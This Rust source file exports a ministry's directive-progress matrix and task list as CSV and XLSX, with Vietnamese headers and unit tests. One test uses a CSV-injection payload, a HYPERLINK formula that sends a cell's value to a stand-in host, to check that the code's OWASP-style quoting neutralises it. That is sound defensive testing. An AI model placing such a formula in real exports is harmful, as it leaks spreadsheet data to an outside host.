//! Exports of the clause × unit matrix and the task list, as CSV (UTF-8 with a byte-order
//! mark, so spreadsheet programs read the diacritics) and XLSX (rust_xlsxwriter; dates as
//! dates). Headers in Vietnamese, as the Ministry Office files them.

use std::borrow::Cow;

use actix_web::{HttpRequest, HttpResponse, web};
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder};
use serde::Deserialize;
use taskforce_core::{doc::ReviewState, progress::ClauseUnit};
use utoipa::IntoParams;

use crate::{
    auth::{Caller, caller_for_token},
    db::entity::{directives, tasks},
    error::{ApiError, ApiResult},
    http::bearer_or_cookie,
    progress::DirectiveProgress,
    progress::{DEFAULT_DIRECTIVE, visible_progress},
    state::AppState,
};

/// A cell: text, a number, or a date (`YYYY-MM-DD`).
#[derive(Debug, Clone)]
pub enum Cell {
    Text(String),
    Number(f64),
    Date(Option<String>),
}

#[derive(Debug, Clone)]
pub struct Table {
    pub sheet: &'static str,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

fn status_vi(s: &str) -> &'static str {
    match s {
        "done" => "Hoàn thành",
        "in_progress" => "Đang thực hiện",
        "blocked" => "Vướng mắc",
        _ => "Chưa thực hiện",
    }
}

/// One unit's cell of the matrix export: its status (overdue or not), then the Ministry
/// Office's review past open and its urges, as the task export has them: "Hoàn thành · Đã
/// nghiệm thu", "Đang thực hiện (quá hạn) · Đôn đốc 2 lần".
fn matrix_cell(x: &ClauseUnit) -> String {
    let mut text = format!(
        "{}{}",
        status_vi(x.status.as_str()),
        if x.overdue { " (quá hạn)" } else { "" }
    );
    if x.review != ReviewState::Open {
        text.push_str(" · ");
        text.push_str(x.review.label_vi());
    }
    if x.urges > 0 {
        text.push_str(&format!(" · Đôn đốc {} lần", x.urges));
    }
    text
}

pub fn matrix_table(p: &DirectiveProgress) -> Table {
    let mut headers: Vec<String> = [
        "Điều khoản",
        "Nội dung",
        "Số đơn vị được giao",
        "Hoàn thành",
        "Đang thực hiện",
        "Vướng mắc",
        "Quá hạn",
        "Tỷ lệ hoàn thành (%)",
    ]
    .map(String::from)
    .into();
    headers.extend(p.units.iter().map(|u| u.name.clone()));
    let rows = p
        .clauses
        .iter()
        .map(|c| {
            let mut row = vec![
                Cell::Text(c.clause.clone()),
                Cell::Text(c.heading.clone().unwrap_or_else(|| c.text.clone())),
                Cell::Number(f64::from(c.counts.assigned)),
                Cell::Number(f64::from(c.counts.done)),
                Cell::Number(f64::from(c.counts.in_progress)),
                Cell::Number(f64::from(c.counts.blocked)),
                Cell::Number(f64::from(c.counts.overdue)),
                Cell::Number(f64::from(c.percent_done)),
            ];
            for u in &p.units {
                let text = c
                    .units
                    .iter()
                    .find(|x| x.unit == u.unit)
                    .map_or(String::new(), matrix_cell);
                row.push(Cell::Text(text));
            }
            row
        })
        .collect();
    Table {
        sheet: "Ma trận",
        headers,
        rows,
    }
}

pub async fn tasks_table(state: &AppState, caller: &Caller, directive: &str) -> ApiResult<Table> {
    let mut find = tasks::Entity::find().filter(tasks::Column::DirectiveId.eq(directive));
    if !caller.reads_everything() {
        find = find.filter(
            tasks::Column::UnitId.is_in(
                caller
                    .units
                    .iter()
                    .map(|(u, _)| u.clone())
                    .collect::<Vec<_>>(),
            ),
        );
    }
    let rows = find
        .order_by_asc(tasks::Column::UnitId)
        .order_by_asc(tasks::Column::TaskRef)
        .all(&state.db)
        .await?;
    let rows = rows
        .into_iter()
        .map(|t| {
            let name = state
                .catalogue
                .get(&t.unit_id)
                .map_or_else(|| t.unit_id.clone(), |u| u.name.clone());
            vec![
                Cell::Text(t.unit_id),
                Cell::Text(name),
                Cell::Text(t.clause_id.unwrap_or_default()),
                Cell::Text(
                    match t.role.as_deref() {
                        Some("lead") => "Chủ trì",
                        Some("coordinating") => "Phối hợp",
                        _ => "",
                    }
                    .into(),
                ),
                Cell::Text(t.title.unwrap_or_default()),
                Cell::Text(status_vi(&t.status).into()),
                Cell::Number(f64::from(t.progress)),
                Cell::Text(t.assignee.unwrap_or_default()),
                Cell::Date(t.due),
                Cell::Text(if t.conflicted { "Có" } else { "" }.into()),
                Cell::Text(
                    ReviewState::parse(&t.review)
                        .unwrap_or(ReviewState::Open)
                        .label_vi()
                        .into(),
                ),
                Cell::Number(f64::from(t.urges)),
            ]
        })
        .collect();
    Ok(Table {
        sheet: "Nhiệm vụ",
        headers: [
            "Mã đơn vị",
            "Đơn vị",
            "Điều khoản",
            "Vai trò",
            "Tên nhiệm vụ",
            "Trạng thái",
            "Tiến độ (%)",
            "Người thực hiện",
            "Hạn",
            "Xung đột",
            "Nghiệm thu",
            "Số lần đôn đốc",
        ]
        .map(String::from)
        .into(),
        rows,
    })
}

/// A text cell as a spreadsheet program will not run it: one starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return (a formula, or one once the program strips the blank) gets
/// a leading `'` (OWASP's advice for CSV injection); the csv writer then quotes as usual.
/// Only text cells: a number column's numbers (negative ones included) stay numbers.
fn csv_text(s: &str) -> Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

pub fn to_csv(t: &Table) -> anyhow::Result<Vec<u8>> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        w.write_record(t.headers.iter().map(|h| csv_text(h).into_owned()))?;
        for row in &t.rows {
            w.write_record(row.iter().map(|c| match c {
                Cell::Text(s) => csv_text(s).into_owned(),
                Cell::Number(n) => n.to_string(),
                // A date is `YYYY-MM-DD`; one stored before the limits may be any text.
                Cell::Date(d) => csv_text(d.as_deref().unwrap_or_default()).into_owned(),
            }))?;
        }
        w.flush()?;
    }
    Ok(out)
}

/// The most UTF-16 units an Excel cell holds; rust_xlsxwriter refuses a longer string.
const XLSX_TEXT_UNITS: usize = 32_767;

/// A text as a spreadsheet cell can hold it: the two characters XML cannot carry (U+FFFE,
/// U+FFFF; rust_xlsxwriter escapes the control characters itself) replaced by U+FFFD, and
/// cut with an ellipsis at Excel's limit. Texts stored before the operations' rules
/// (`Op::admissible`) may carry either, and concurrent values joined into one cell may be long.
fn xlsx_text(s: &str) -> Cow<'_, str> {
    let unfit = |c: char| matches!(c, '\u{fffe}' | '\u{ffff}');
    if !s.contains(unfit) && s.len() <= XLSX_TEXT_UNITS {
        // UTF-16 never takes more units than UTF-8 takes bytes.
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len().min(4 * XLSX_TEXT_UNITS));
    let mut units = 0;
    let room = XLSX_TEXT_UNITS - 1; // for the ellipsis
    let total = s.encode_utf16().count();
    for c in s.chars() {
        if total > XLSX_TEXT_UNITS && units + c.len_utf16() > room {
            out.push('…');
            break;
        }
        units += c.len_utf16();
        out.push(if unfit(c) { '\u{fffd}' } else { c });
    }
    Cow::Owned(out)
}

pub fn to_xlsx(t: &Table) -> anyhow::Result<Vec<u8>> {
    let mut wb = Workbook::new();
    let bold = Format::new().set_bold();
    let date = Format::new().set_num_format("dd/mm/yyyy");
    let ws = wb.add_worksheet();
    ws.set_name(t.sheet)?;
    for (c, h) in t.headers.iter().enumerate() {
        ws.write_string_with_format(0, u16::try_from(c)?, h, &bold)?;
    }
    for (r, row) in t.rows.iter().enumerate() {
        let r = u32::try_from(r + 1)?;
        for (c, cell) in row.iter().enumerate() {
            let c = u16::try_from(c)?;
            match cell {
                Cell::Text(s) => {
                    ws.write_string(r, c, xlsx_text(s))?;
                }
                Cell::Number(n) => {
                    ws.write_number(r, c, *n)?;
                }
                // A date Excel cannot hold (before 1900, or not a date: stored before the
                // operations' limits said so) is written as its text, never failing the export.
                Cell::Date(Some(d)) => match ExcelDateTime::parse_from_str(d) {
                    Ok(dt) => {
                        ws.write_datetime_with_format(r, c, &dt, &date)?;
                    }
                    Err(_) => {
                        ws.write_string(r, c, d)?;
                    }
                },
                Cell::Date(None) => {}
            }
        }
    }
    ws.set_freeze_panes(1, 0)?;
    Ok(wb.save_to_buffer()?)
}

#[derive(Debug, Deserialize, IntoParams)]
pub struct ExportQuery {
    /// The directive's id; default: the bundled 05/CT-BTTTT.
    directive: Option<String>,
}

/// `GET /exports/{matrix|tasks}.{csv|xlsx}`: for the signed-in page user or a bearer token.
#[utoipa::path(get, path = "/exports/{name}", tag = "exports", security(("bearer" = []), ("cookie" = [])),
    params(("name" = String, Path, description = "`matrix.csv`, `matrix.xlsx`, `tasks.csv` or `tasks.xlsx`"), ExportQuery),
    responses(
        (status = 200, description = "the clause × unit matrix or the task list; Vietnamese headers, dates as dates",
            content(
                (String = "text/csv; charset=utf-8"),
                (super::Binary = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"))),
        (status = 401, body = crate::error::ErrorBody), (status = 404, body = crate::error::ErrorBody)))]
pub async fn download(
    state: web::Data<AppState>,
    req: HttpRequest,
    path: web::Path<String>,
    q: web::Query<ExportQuery>,
) -> ApiResult<HttpResponse> {
    let token = bearer_or_cookie(&req).ok_or(ApiError::Unauthorized)?;
    let caller = caller_for_token(&state.db, &token).await?;
    let name = path.into_inner();
    let directive = q
        .into_inner()
        .directive
        .unwrap_or_else(|| DEFAULT_DIRECTIVE.into());
    let (what, ext) = name
        .rsplit_once('.')
        .ok_or_else(|| ApiError::NotFound(name.clone()))?;
    let table = match what {
        "matrix" => {
            matrix_table(&visible_progress(&state.db, &state.catalogue, &caller, &directive).await?)
        }
        "tasks" => {
            // An unknown directive is a 404, as the matrix's is.
            directives::Entity::find_by_id(directive.clone())
                .one(&state.db)
                .await?
                .ok_or_else(|| ApiError::NotFound(format!("directive {directive}")))?;
            tasks_table(&state, &caller, &directive).await?
        }
        _ => return Err(ApiError::NotFound(name)),
    };
    let (bytes, mime) = match ext {
        "csv" => (to_csv(&table)?, "text/csv; charset=utf-8"),
        "xlsx" => (
            to_xlsx(&table)?,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        _ => return Err(ApiError::NotFound(name)),
    };
    Ok(HttpResponse::Ok()
        .content_type(mime)
        .insert_header((
            "Content-Disposition",
            // `matrix.xlsx` of the bundled directive as before; `matrix-07-ct-btttt.xlsx` of another.
            if directive == DEFAULT_DIRECTIVE {
                format!("attachment; filename=\"{name}\"")
            } else {
                format!(
                    "attachment; filename=\"{what}-{}.{ext}\"",
                    directive.replace(|c: char| !c.is_ascii_alphanumeric() && c != '-', "_")
                )
            },
        ))
        .body(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_longer_than_a_cell_holds_is_cut_not_a_failed_export() {
        // Concurrent assignees are joined into one cell: past 32,767 UTF-16 units, Excel's
        // limit, the whole export used to fail.
        let long = "Nguyễn Văn An / ".repeat(3_000);
        let table = Table {
            sheet: "Nhiệm vụ",
            headers: vec!["Người thực hiện".into()],
            rows: vec![
                vec![Cell::Text(long.clone())],
                vec![Cell::Text("🙂".repeat(20_000))],
            ],
        };
        let xlsx = to_xlsx(&table);
        assert!(
            xlsx.as_ref().is_ok_and(|b| b.starts_with(b"PK")),
            "{:?}",
            xlsx.err()
        );
        let cut = xlsx_text(&long);
        assert_eq!(cut.encode_utf16().count(), XLSX_TEXT_UNITS);
        assert!(long.starts_with(cut.trim_end_matches('…')));
        // A character of two UTF-16 units is never split.
        let emoji = "🙂".repeat(20_000);
        let cut = xlsx_text(&emoji);
        assert!(cut.encode_utf16().count() <= XLSX_TEXT_UNITS && cut.ends_with('…'));
        assert_eq!(xlsx_text("ngắn"), "ngắn");
    }

    #[test]
    fn characters_xml_cannot_carry_are_replaced_in_a_spreadsheet() {
        // rust_xlsxwriter escapes the control characters; U+FFFE and U+FFFF it writes as
        // they are, and Excel then calls the file damaged.
        assert_eq!(xlsx_text("a\u{fffe}b\u{ffff}"), "a\u{fffd}b\u{fffd}");
        assert_eq!(xlsx_text("a\0b\u{1b}"), "a\0b\u{1b}");
    }

    fn csv_rows(table: &Table) -> Vec<Vec<String>> {
        let bytes = to_csv(table).unwrap_or_else(|e| panic!("csv: {e}"));
        let text = String::from_utf8(bytes).unwrap_or_else(|e| panic!("utf-8: {e}"));
        csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .map(|r| {
                r.unwrap_or_else(|e| panic!("csv record: {e}"))
                    .iter()
                    .map(String::from)
                    .collect()
            })
            .collect()
    }

    #[test]
    fn csv_text_cells_that_would_run_as_formulas_get_a_leading_quote_and_numbers_stay_numbers() {
        let texts = [
            "=HYPERLINK(\"http://x.test/?\"&A1,\"bấm\")",
            "+1+2",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "Nguyễn Văn An",
            "a=b, \"quoted\"",
        ];
        let table = Table {
            sheet: "Nhiệm vụ",
            headers: vec!["Tên".into(), "Tiến độ (%)".into(), "Hạn".into()],
            rows: texts
                .iter()
                .map(|s| {
                    vec![
                        Cell::Text((*s).into()),
                        Cell::Number(-42.5),
                        Cell::Date(Some("=1+1".into())),
                    ]
                })
                .collect(),
        };
        let rows = csv_rows(&table);
        let got: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
        assert_eq!(
            got,
            [
                "'=HYPERLINK(\"http://x.test/?\"&A1,\"bấm\")",
                "'+1+2",
                "'-2+3",
                "'@SUM(A1:A2)",
                "'\t=1",
                "'\r=1",
                "Nguyễn Văn An",
                "a=b, \"quoted\"",
            ]
        );
        for r in &rows {
            assert_eq!(r[1], "-42.5", "a number column keeps its negative numbers");
            assert_eq!(r[2], "'=1+1", "a date column's stray text is text");
        }
    }

    #[test]
    fn a_matrix_cell_carries_the_review_and_the_urges_past_the_status() {
        let cell = |review, urges, overdue| {
            matrix_cell(&ClauseUnit {
                unit: "cuc-vt".into(),
                role: taskforce_core::directive::Role::Lead,
                status: taskforce_core::doc::Status::Done,
                progress: 100,
                overdue,
                review,
                urges,
                last_urged_at: None,
            })
        };
        assert_eq!(cell(ReviewState::Open, 0, false), "Hoàn thành");
        assert_eq!(
            cell(ReviewState::Accepted, 0, false),
            format!("Hoàn thành · {}", ReviewState::Accepted.label_vi())
        );
        assert_eq!(
            cell(ReviewState::Returned, 2, true),
            format!(
                "Hoàn thành (quá hạn) · {} · Đôn đốc 2 lần",
                ReviewState::Returned.label_vi()
            )
        );
    }

    #[test]
    fn a_date_excel_cannot_hold_is_exported_as_text() {
        let table = Table {
            sheet: "Nhiệm vụ",
            headers: vec!["Hạn".into()],
            rows: vec![
                vec![Cell::Date(Some("1800-01-01".into()))],
                vec![Cell::Date(Some("không phải ngày".into()))],
                vec![Cell::Date(Some("2020-02-15".into()))],
            ],
        };
        let xlsx = to_xlsx(&table);
        assert!(
            xlsx.as_ref().is_ok_and(|b| b.starts_with(b"PK")),
            "{:?}",
            xlsx.err()
        );
        let csv = to_csv(&table).unwrap_or_default();
        assert!(String::from_utf8_lossy(&csv).contains("1800-01-01"));
    }
}
